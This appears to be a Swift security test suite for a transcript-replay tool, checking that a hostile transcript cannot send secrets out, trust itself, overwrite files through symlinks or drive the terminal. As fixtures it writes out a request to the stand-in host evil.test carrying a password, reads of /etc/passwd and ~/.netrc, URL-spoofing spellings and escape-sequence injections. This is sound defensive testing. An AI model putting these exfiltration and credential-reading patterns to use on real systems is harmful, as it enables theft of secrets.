import HTTPExchange
import IntegrationHub
import Shell
import TestSupport
import Testing

#if canImport(Glibc)
  import Glibc
#elseif canImport(Musl)
  import Musl
#else
  import Darwin
#endif

/// What the author of a transcript may try with somebody who replays or opens it.
@Suite struct HostileTranscriptTests {
  private let bench = SessionBench()

  private func foreign(_ cells: String, words: String = "") {
    bench.files.texts["f.md"] = "```patchbay\(words)\n\(cells)\n```\n"
    bench.environment["PW"] = "swordfish"
    bench.environment["CRM_SECRET"] = "practice-secret"
  }

  private let connection =
    #"connection c { "baseUrl": "http://evil.test", "requests": { "r": { "url": "/[[pw]]" } } }"#

  @Test(arguments: [
    "env PW", "file /etc/passwd", "command \"cat ~/.netrc\"", "vault", "vault crm/clientSecret",
    "env CRM_SECRET",
  ])
  func noSourceIsAsked(source: String) throws {
    bench.isInteractive = true
    foreign("\(connection)\nsecret c pw from \(source)\nconnectrequest c r")
    #expect(bench.replay("f.md") { $0.isLive = true } == .secretMissing)
    #expect(bench.transport.requests.isEmpty)
    #expect(
      bench.secrets.commands.isEmpty && bench.secrets.filesRead.isEmpty && bench.secrets.storage.reads == 0)
    #expect(bench.asked.isEmpty)
    try bench.run(":open f.md")
    #expect(try bench.status(of: "connectrequest c r") == .secretMissing)
    #expect(bench.transport.requests.isEmpty)
    #expect(
      bench.secrets.commands.isEmpty && bench.secrets.filesRead.isEmpty && bench.secrets.storage.reads == 0)
  }

  @Test func aFenceThatIsOneCellHidesNoSecret() {
    bench.isInteractive = true
    foreign("// harmless\n\(connection)\nsecret c pw from env CRM_SECRET\nconnectrequest c r", words: " whole")
    _ = bench.replay("f.md") { $0.isLive = true }
    #expect(bench.transport.requests.isEmpty)
    foreign("// harmless\nsecret c pw from env CRM_SECRET", words: " whole")
    bench.files.texts["f.md"]? += "```patchbay\nconnectrequest c r\n```\n"
    bench.files.texts["f.md"] = "```patchbay\n\(connection)\n```\n" + (bench.files.texts["f.md"] ?? "")
    #expect(bench.replay("f.md") { $0.isLive = true } == .secretMissing)
    #expect(bench.transport.requests.isEmpty)
  }

  @Test func theConnectionsOfTheSessionAreNotItsOwn() throws {
    bench.environment["PW"] = "swordfish"
    try bench.run(
      "connection crm { \"baseUrl\": \"http://good.test\", \"requests\": { \"r\": { \"url\": \"/\" } } }\nsecret crm pw from env PW"
    )
    foreign(
      "connection crm { \"baseUrl\": \"http://evil.test\", \"requests\": { \"r\": { \"url\": \"/[[pw]]\" } } }"
    )
    try bench.run(":open f.md")
    bench.transport.answer(200, "{}")
    #expect(try bench.status(of: "connectrequest crm r") != .done)
    #expect(bench.transport.requests.isEmpty)
  }

  @Test(arguments: [
    "http:/xsandbox.test/?://", "http:///xsandbox.test/", "http:\\\\sandbox.test", "//sandbox.test",
    "http://sandbox.test.", "http://sandbox.test\\\\.evil.test", "http://sandbox%2etest",
    "http://[sandbox.test]",
  ])
  func noOtherSpellingPassesForThePracticeService(url: String) {
    bench.isInteractive = true
    foreign(
      "connection c { \"requests\": { \"r\": { \"url\": \"\(url)/[[pw]]\" } } }\nsecret c pw from env CRM_SECRET\nconnectrequest c r"
    )
    #expect(bench.replay("f.md") { $0.isLive = true } != .done, "\(url)")
    #expect(bench.transport.requests.isEmpty, "\(url)")
  }

  @Test func withoutSecretsOfItsOwnThereIsNoException() throws {
    bench.isInteractive = true
    foreign(connection)
    try bench.run(":open f.md")
    try bench.run("secret c pw from env CRM_SECRET")
    #expect(try bench.status(of: "connectrequest c r") == .secretMissing)
    #expect(bench.transport.requests.isEmpty)
  }

  @Test func redirectsAreNotFollowed() throws {
    bench.isInteractive = true
    foreign(
      "connection c { \"baseUrl\": \"http://sandbox.test\", \"requests\": { \"r\": { \"url\": \"/[[pw]]\" } } }\nsecret c pw from env CRM_SECRET\nconnectrequest c r"
    )
    bench.transport.answer(200, "{}")
    #expect(bench.replay("f.md") { $0.isLive = true } == .done)
    #expect(bench.transport.requests.map(\.maximumRedirects) == [0])
  }

  // MARK: Trust is in the content

  @Test func savingUnderAnotherNameGivesNoTrust() throws {
    foreign("\(connection)\nsecret c pw from env PW\nconnectrequest c r")
    try bench.run(":open f.md\nx = 1\n:save mine.md")
    #expect(bench.files.texts["mine.md"]?.contains("from env PW") == true)
    #expect(bench.replay("mine.md") { $0.isLive = true } == .secretMissing)
    #expect(bench.transport.requests.isEmpty)
  }

  @Test func whatIsTrustedCanBeSavedAndGoesOn() throws {
    foreign("\(connection)\nsecret c pw from env PW")
    bench.transport.answer(200, "{}")
    try bench.run(":open f.md\n:trust\nconnectrequest c r\n:save mine.md")
    bench.transport.answer(200, "{}")
    #expect(bench.replay("mine.md") { $0.isLive = true } == .done)
  }

  @Test func aRecordingFromElsewhereTakesTheTrustFromWhatIsOpened() throws {
    bench.environment["PW"] = "swordfish"
    bench.transport.answer(200, #"{"host":"http://good.test"}"#)
    try bench.run(
      """
      connection c { "requests": { "where": { "url": "http://h.test" }, "r": { "url": "[[host]]/[[pw]]" } } }
      secret c pw from env PW
      connectrequest c where
      variable c host "{requestBody.host}"
      :save a.md
      """)
    try bench.run(":open a.md")
    bench.transport.answer(200, "{}")
    #expect(try bench.status(of: "connectrequest c r") == .done)
    #expect(bench.transport.requests.last?.url == "http://good.test/swordfish")
    bench.files.texts["a.har"] = bench.files.texts["a.har"]?.replacing("good.test", with: "evil.test")
    try bench.run(":open a.md")
    #expect(try bench.status(of: "connectrequest c r") == .secretMissing)
    #expect(bench.transport.requests.count == 2)
    // Over the network the recording says nothing.
    bench.transport.answer(200, #"{"host":"http://good.test"}"#)
    #expect(bench.replay("a.md") { $0.isLive = true } == .done)
  }

  @Test(arguments: ["\u{202E}", "\u{2066}", "\u{200B}", "\r", "\u{2028}", "\u{1B}[8m", "\u{8}", "\u{FEFF}"])
  func nothingDisguisedIsTrusted(mark: String) throws {
    foreign("// harmless\(mark) words\n\(connection)\nsecret c pw from env PW\nconnectrequest c r")
    #expect(
      bench.replay("f.md") {
        $0.isLive = true
        $0.trusts = true
      } == .secretMissing)
    #expect(bench.errors.contains("f.md:2: the character U+"))
    try bench.run(":open f.md")
    #expect(try bench.status(of: ":trust") == .secretMissing)
    #expect(try bench.status(of: "connectrequest c r") == .secretMissing)
    #expect(bench.transport.requests.isEmpty)
  }

  @Test func carriageReturnsOfWindowsAreNoDisguise() throws {
    foreign("\(connection)\nsecret c pw from env PW\nconnectrequest c r")
    bench.files.texts["f.md"] = "\u{FEFF}" + (bench.files.texts["f.md"] ?? "").replacing("\n", with: "\r\n")
    bench.transport.answer(200, "{}")
    #expect(
      bench.replay("f.md") {
        $0.isLive = true
        $0.trusts = true
      } == .done)
    // One line end of another kind, as editors leave it.
    bench.files.texts["f.md"]? += "more\n"
    bench.transport.answer(200, "{}")
    #expect(
      bench.replay("f.md") {
        $0.isLive = true
        $0.trusts = true
      } != .secretMissing)
  }

  @Test func cellsInACommentDoNotRun() {
    foreign("x = 1")
    bench.files.texts["f.md"]? +=
      "<!--\n```patchbay\n\(connection)\nsecret c pw from env PW\nconnectrequest c r\n```\n-->\n"
    #expect(bench.replay("f.md") { $0.isLive = true } == .done)
    #expect(bench.output.contains("1 cell,"))
  }

  // MARK: Files

  @Test(arguments: [
    ":save other.md", ":save! other.md", ":open other.md", ":trust", ":quit", ":private off", ":private",
  ])
  func theseDoNotRunInATranscript(command: String) {
    foreign(command, words: " error")
    bench.files.texts["other.md"] = "mine"
    #expect(bench.replay("f.md") == .done)
    #expect(bench.files.texts["other.md"] == "mine")
  }

  @Test func openingDoesNotEndPrivacy() throws {
    foreign(":private off")
    try bench.run(":private\n:open f.md")
    #expect(bench.session.isPrivate)
  }

  @Test func theRecordingIsNotWrittenThroughALink() throws {
    let folder = TemporaryFolder()
    let victim = folder.write("{\"log\":{\"version\":\"1.2\",\"entries\":[]}}", to: "victim")
    folder.write("```patchbay\nx = 1\nx\n```\n```output\n2\n```\n", to: "f.md")
    symlink(victim, folder.file("f.har"))
    let files = SystemFileStore()
    let opened = try TranscriptFiles(files).read(folder.file("f.md"))
    #expect(throws: FileError.self) {
      try TranscriptFiles(files).write(
        opened.transcript, try #require(opened.recording), to: folder.file("f.md"))
    }
    #expect(folder.read("victim") == "{\"log\":{\"version\":\"1.2\",\"entries\":[]}}")
    #expect(folder.read("f.md")?.contains("x = 1") == true)
  }

  @Test func aDeviceWithoutEndIsRefused() {
    #expect(throws: FileError.self) { _ = try SystemFileStore().readBytes("/dev/zero") }
  }

  @Test func theTrustFileIsTheOwnersAlone() throws {
    let folder = TemporaryFolder()
    mkdir(folder.file("data"), 0o755)
    let path = folder.write("0000\n", to: "data/trusted")
    chmod(path, 0o644)
    try SystemFileStore().writePrivately("1111\n", to: path)
    #expect(mode(path) == 0o600)
    #expect(mode(folder.file("data")) == 0o700)
    try SystemFileStore().writePrivately("1111\n", to: folder.file("data/new"))
    #expect(mode(folder.file("data/new")) == 0o600)
  }

  private func mode(_ path: String) -> mode_t {
    var information = stat()
    return stat(path, &information) == 0 ? information.st_mode & 0o777 : 0
  }

  // MARK: The terminal

  private static let drive = "\u{1B}]0;title\u{7}\u{1B}[2J\u{202E}\u{9B}31m"

  private func expectNoControl(_ text: String, sourceLocation: SourceLocation = #_sourceLocation) {
    for scalar in ["\u{1B}", "\u{7}", "\u{202E}", "\u{9B}", "\r"] {
      #expect(!text.contains(scalar), "\(text.debugDescription)", sourceLocation: sourceLocation)
    }
  }

  @Test func nothingInAFileDrivesTheTerminal() throws {
    let drive = Self.drive
    bench.files.texts["f.md"] = """
      <!-- patchbay {"formatVersion":1,"secrets":{"c/\u{9B}31m":"env \u{202E}"}} -->
      # Prose \(drive)

      ```patchbay id=a
      x = "a\(drive)"
      x
      ```
      ```output
      b\(drive)
      ```

      """
    #expect(
      bench.replay("f.md") { $0.prints = true } != .done)
    expectNoControl(bench.output)
    expectNoControl(bench.errors)
    #expect(bench.output.contains("# Prose \\u001B"))
    try bench.run(":open f.md")
    expectNoControl(bench.output + bench.errors)
  }

  @Test func nothingInTheNameOfAFileDrivesTheTerminal() throws {
    let name = "f\(Self.drive).md"
    bench.files.texts[name] = "```patchbay\n1 + 1\n```\n```output\n3\n```\n"
    #expect(bench.replay(name) == .differs)
    #expect(bench.replay("none" + name) == .fileError)
    bench.files.texts[name] = "```patchbay\n"
    #expect(bench.replay(name) == .fileError)
    expectNoControl(bench.output + bench.errors)
    for command in [":open \(name)", ":save \(name)", ":open none\(name)"] {
      let cell = try bench.run(command)
      expectNoControl(cell.parts.map { bench.session.redacted($0).text }.joined())
    }
  }
}
